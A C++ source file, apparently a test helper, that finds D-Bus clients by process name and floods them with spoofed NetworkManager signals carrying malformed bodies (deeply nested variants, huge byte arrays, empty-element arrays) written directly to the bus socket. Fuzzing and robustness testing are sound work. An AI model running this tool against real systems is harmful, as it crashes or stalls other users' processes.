// A local user's client on the system bus that sends another client unicast signals meant to
// upset it: deeply nested variants, a huge byte array, and arrays whose elements take no room.
//
// quorv-bus-attacker COMM SECONDS
// Attacks every connection whose process is named COMM, for SECONDS or until SIGTERM. Prints
// "ready" once it watches the bus and, at the end, how many such processes it met and one line
// per kind of message: its size or depth, how many the bus took and which it refused.
//
// sd-bus only connects and asks the bus; the signals are marshalled here and written to the
// socket directly, since sd-bus refuses to build some of them (an empty struct).
#include <poll.h>
#include <signal.h>
#include <sys/prctl.h>
#include <systemd/sd-bus.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <set>
#include <string>
#include <utility>
#include <vector>

namespace {

using Clock = std::chrono::steady_clock;

// Little-endian D-Bus marshalling of the little we send.
struct Wire {
    std::string bytes;
    void Pad(std::size_t to) {
        while (bytes.size() % to != 0) {
            bytes.push_back('\0');
        }
    }
    void U32(std::uint32_t v) {
        Pad(4);
        for (int i = 0; i < 4; ++i) {
            bytes.push_back(char((v >> (8 * i)) & 0xff));
        }
    }
    void Str(const std::string& s) {
        U32(std::uint32_t(s.size()));
        bytes += s;
        bytes.push_back('\0');
    }
    void Sig(const std::string& s) {
        bytes.push_back(char(s.size()));
        bytes += s;
        bytes.push_back('\0');
    }
    void Field(char code, const std::string& type, const std::string& value) {
        Pad(8);
        bytes.push_back(code);
        Sig(type);
        if (type == "g") {
            Sig(value);
        } else {
            Str(value);
        }
    }
};

std::uint32_t serial = 0x40000000;

// A PropertiesChanged signal of a NetworkManager device, as far as its header goes, so that it
// passes a client's match on interface, member and path; only the body is wrong.
std::string Signal(const std::string& destination, const std::string& signature,
                   const std::string& body) {
    Wire w;
    w.bytes = {'l', 4, 1, 1};  // little-endian, signal, no reply expected, version 1
    w.U32(std::uint32_t(body.size()));
    w.U32(++serial);
    std::size_t lengthAt = w.bytes.size();
    w.U32(0);
    std::size_t start = w.bytes.size();
    w.Field(1, "o", "/org/freedesktop/NetworkManager/Devices/1");
    w.Field(2, "s", "org.freedesktop.DBus.Properties");
    w.Field(3, "s", "PropertiesChanged");
    w.Field(6, "s", destination);
    w.Field(8, "g", signature);
    std::uint32_t length = std::uint32_t(w.bytes.size() - start);
    for (int i = 0; i < 4; ++i) {
        w.bytes[lengthAt + i] = char((length >> (8 * i)) & 0xff);
    }
    w.Pad(8);
    return w.bytes + body;
}

std::string NestedVariants(int depth) {
    Wire w;
    for (int i = 1; i < depth; ++i) {
        w.Sig("v");
    }
    w.Sig("y");
    w.bytes.push_back('*');
    return w.bytes;
}

std::string ByteArray(std::size_t size) {
    Wire w;
    w.U32(std::uint32_t(size));
    w.bytes.append(size, '\x5a');
    return w.bytes;
}

// a(): the array's length says nothing about how many elements it has.
std::string EmptyStructs() {
    Wire w;
    w.U32(0);
    w.Pad(8);
    return w.bytes;
}

// aay of empty arrays: each element is its length word and nothing else.
std::string EmptyArrays(std::uint32_t count) {
    Wire w;
    w.U32(4 * count);
    for (std::uint32_t i = 0; i < count; ++i) {
        w.U32(0);
    }
    return w.bytes;
}

struct Kind {
    const char* name;
    std::string signature;
    std::string detail;  // the size or depth sent
    std::string body;
    int sent = 0;
    std::vector<std::string> refused;
};

volatile sig_atomic_t stopped = 0;

class Attacker {
  public:
    ~Attacker() { sd_bus_flush_close_unref(bus_); }

    // A fresh connection, watching connections come and go; every name already there counts
    // as new.
    bool Open() {
        bus_ = sd_bus_flush_close_unref(bus_);
        if (sd_bus_open_system(&bus_) < 0) {
            return false;
        }
        const char* unique = nullptr;
        if (sd_bus_get_unique_name(bus_, &unique) < 0 ||  // waits for Hello's answer
            sd_bus_add_match(
                bus_, nullptr,
                "type='signal',sender='org.freedesktop.DBus',member='NameOwnerChanged'",
                &Attacker::OnOwner, this) < 0) {
            return false;
        }
        self_ = unique;
        for (const auto& name : UniqueNames()) {
            fresh_.push_back(name);
        }
        return true;
    }

    const std::string& Self() const { return self_; }

    // Handles what arrived; false when the connection is gone.
    bool Drain() {
        int r;
        while ((r = sd_bus_process(bus_, nullptr)) > 0) {
        }
        return r >= 0;
    }

    void Wait(std::uint64_t usec) { sd_bus_wait(bus_, usec); }

    // Connections that came since the last call; names that left since then are forgotten here.
    std::vector<std::string> Fresh() { return std::exchange(fresh_, {}); }
    std::vector<std::string> Gone() { return std::exchange(gone_, {}); }

    // The bus handles a connection's messages in order: when it answers this, it has taken
    // everything we wrote before; a message it refuses ends the connection.
    bool Confirmed() {
        sd_bus_error error = SD_BUS_ERROR_NULL;
        sd_bus_message* reply = nullptr;
        int r = sd_bus_call_method(bus_, "org.freedesktop.DBus", "/org/freedesktop/DBus",
                                   "org.freedesktop.DBus", "GetId", &error, &reply, "");
        sd_bus_error_free(&error);
        sd_bus_message_unref(reply);
        return r >= 0;
    }

    bool Write(const std::string& message) {
        if (sd_bus_flush(bus_) < 0) {
            return false;
        }
        int fd = sd_bus_get_fd(bus_);
        std::size_t done = 0;
        while (done < message.size()) {
            ssize_t n = write(fd, message.data() + done, message.size() - done);
            if (n > 0) {
                done += std::size_t(n);
            } else if (n < 0 && (errno == EAGAIN || errno == EINTR)) {
                pollfd p{fd, POLLOUT, 0};
                poll(&p, 1, 1000);
            } else {
                return false;
            }
        }
        return true;
    }

    // The process behind a connection, by its name in /proc.
    std::string Comm(const std::string& name, std::uint32_t& pid) {
        sd_bus_error error = SD_BUS_ERROR_NULL;
        sd_bus_message* reply = nullptr;
        pid = 0;
        if (sd_bus_call_method(bus_, "org.freedesktop.DBus", "/org/freedesktop/DBus",
                               "org.freedesktop.DBus", "GetConnectionUnixProcessID", &error, &reply,
                               "s", name.c_str()) >= 0) {
            sd_bus_message_read(reply, "u", &pid);
        }
        sd_bus_error_free(&error);
        sd_bus_message_unref(reply);
        std::string comm;
        if (pid > 0) {
            std::ifstream in("/proc/" + std::to_string(pid) + "/comm");
            std::getline(in, comm);
        }
        return comm;
    }

  private:
    std::vector<std::string> UniqueNames() {
        std::vector<std::string> out;
        sd_bus_error error = SD_BUS_ERROR_NULL;
        sd_bus_message* reply = nullptr;
        char** names = nullptr;
        if (sd_bus_call_method(bus_, "org.freedesktop.DBus", "/org/freedesktop/DBus",
                               "org.freedesktop.DBus", "ListNames", &error, &reply, "") >= 0 &&
            sd_bus_message_read_strv(reply, &names) >= 0 && names) {
            for (char** n = names; *n; ++n) {
                if ((*n)[0] == ':' && self_ != *n) {
                    out.push_back(*n);
                }
                std::free(*n);
            }
            std::free(names);
        }
        sd_bus_error_free(&error);
        sd_bus_message_unref(reply);
        return out;
    }

    static int OnOwner(sd_bus_message* m, void* self, sd_bus_error*) {
        auto* attacker = static_cast<Attacker*>(self);
        const char *name = nullptr, *before = nullptr, *after = nullptr;
        if (sd_bus_message_read(m, "sss", &name, &before, &after) > 0 && name[0] == ':') {
            (*after ? attacker->fresh_ : attacker->gone_).push_back(name);
        }
        return 0;
    }

    sd_bus* bus_ = nullptr;
    std::string self_;
    std::vector<std::string> fresh_;
    std::vector<std::string> gone_;
};

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) {
        std::fprintf(stderr, "usage: quorv-bus-attacker COMM SECONDS\n");
        return 2;
    }
    const std::string comm = argv[1];
    const auto deadline = Clock::now() + std::chrono::seconds(std::atoi(argv[2]));
    // The test stops us by ending the nsenter that started us; the report comes all the same.
    struct sigaction stop {};
    stop.sa_handler = [](int) { stopped = 1; };
    sigaction(SIGTERM, &stop, nullptr);
    prctl(PR_SET_PDEATHSIG, SIGTERM);

    Attacker bus;
    if (!bus.Open()) {
        std::printf("cannot connect\n");
        return 1;
    }
    int depth = 64;
    std::size_t size = 30u << 20;
    const std::uint32_t emptyCount = 1u << 20;
    Kind variants{"variants", "v", "", "", 0, {}};
    Kind bytes{"bytes", "ay", "", "", 0, {}};
    Kind structs{"empty-structs", "a()", "-", EmptyStructs(), 0, {}};
    Kind arrays{"empty-arrays", "aay", std::to_string(emptyCount), EmptyArrays(emptyCount), 0, {}};
    auto shape = [&] {
        variants.detail = std::to_string(depth);
        variants.body = NestedVariants(depth);
        bytes.detail = std::to_string(size);
        bytes.body = ByteArray(size);
    };
    shape();
    // Returns whether the bus took it; a refusal costs the connection.
    auto send = [&](Kind& kind, const std::string& destination) {
        if (bus.Write(Signal(destination, kind.signature, kind.body)) && bus.Confirmed()) {
            ++kind.sent;
            return true;
        }
        if (stopped) {
            return true;  // sd-bus gives up a call on the signal: no refusal of the bus
        }
        kind.refused.push_back(kind.detail);
        if (!bus.Open()) {
            std::printf("cannot reconnect\n");
            std::exit(1);
        }
        return false;
    };
    // The bus judges a body whoever it is for: whether it takes a() is asked once, of ourselves,
    // since a refusal would cost the time a target runs.
    bool structsPass = send(structs, bus.Self());
    std::printf("ready\n");
    std::fflush(stdout);

    std::set<std::string> targets;
    std::set<std::uint32_t> pids;  // a process may open more than one connection
    while (!stopped && Clock::now() < deadline) {
        if (!bus.Drain() && !bus.Open()) {
            std::printf("cannot reconnect\n");
            return 1;
        }
        for (const auto& name : bus.Gone()) {
            targets.erase(name);
        }
        for (const auto& name : bus.Fresh()) {
            std::uint32_t pid = 0;
            if (bus.Comm(name, pid) == comm) {
                targets.insert(name);
                pids.insert(pid);
            }
        }
        if (targets.empty()) {
            bus.Wait(100000);
            continue;
        }
        // Small ones first: they reach a short-lived target before it is done.
        std::vector<Kind*> round{&variants, &arrays, &bytes};
        if (structsPass) {
            round.push_back(&structs);
        }
        for (const auto& target : targets) {
            for (Kind* kind : round) {
                if (!send(*kind, target)) {
                    // The largest the bus takes, then.
                    if (kind == &variants && depth > 2) {
                        --depth;
                    } else if (kind == &bytes && size > (1u << 20)) {
                        size -= 1u << 20;
                    }
                    shape();
                }
            }
        }
    }
    std::printf("targets %zu\n", pids.size());
    for (const Kind* kind : {&variants, &bytes, &structs, &arrays}) {
        std::printf("%s %s sent %d refused", kind->name, kind->detail.c_str(), kind->sent);
        for (const auto& detail : kind->refused) {
            std::printf(" %s", detail.c_str());
        }
        std::printf("\n");
    }
    return 0;
}
